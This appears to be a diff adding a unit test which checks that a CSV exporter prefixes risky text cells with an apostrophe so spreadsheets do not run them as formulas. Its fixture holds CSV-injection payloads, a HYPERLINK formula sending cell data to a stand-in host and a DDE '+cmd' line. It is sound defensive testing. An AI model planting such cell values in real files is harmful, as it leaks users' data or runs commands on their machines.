@@ -15,6 +15,26 @@ describe('table export', () => {
     expect(parse(toCsv(t), { relaxQuotes: false })).toEqual([t.columns, ...t.rows]);
   });
 
+  it("CSV: a text cell a spreadsheet would run as a formula or strip of leading zeros opens as text (a leading '), a numeric cell is left as it is", () => {
+    const risky = {
+      columns: ['passage', 'query', 'MRR', 'Δ MRR', 'note'],
+      rows: [
+        ['00123', '=HYPERLINK("http://evil.example/?"&A1,"see")', '0.500', '-0.012', "+cmd|' /C calc'!A0"],
+        ['p-7', '@SUM(A1:A9)', '1e-4', '+0.034', '-x'],
+        ['0.25', '\tTAB first', '12%', '0', '\rCR first'],
+      ],
+    };
+    const csv = toCsv(risky);
+    expect(csv.split('\r\n')[1]).toBe(`'00123,"'=HYPERLINK(""http://evil.example/?""&A1,""see"")",0.500,-0.012,'+cmd|' /C calc'!A0`);
+    // parsed back, every text cell that began with = + - @ tab CR or was a zero-padded number carries the ' and nothing else changed
+    expect(parse(csv, { relaxQuotes: false })).toEqual([
+      risky.columns,
+      ["'00123", `'${risky.rows[0][1]}`, '0.500', '-0.012', `'${risky.rows[0][4]}`],
+      ['p-7', "'@SUM(A1:A9)", '1e-4', '+0.034', "'-x"],
+      ['0.25', "'\tTAB first", '12%', '0', "'\rCR first"],
+    ]);
+  });
+
   it('Markdown: one pipe row per table row, pipes escaped, newlines as <br>', () => {
     const md = toMarkdown(t).trimEnd().split('\n');
     expect(md).toHaveLength(2 + t.rows.length);
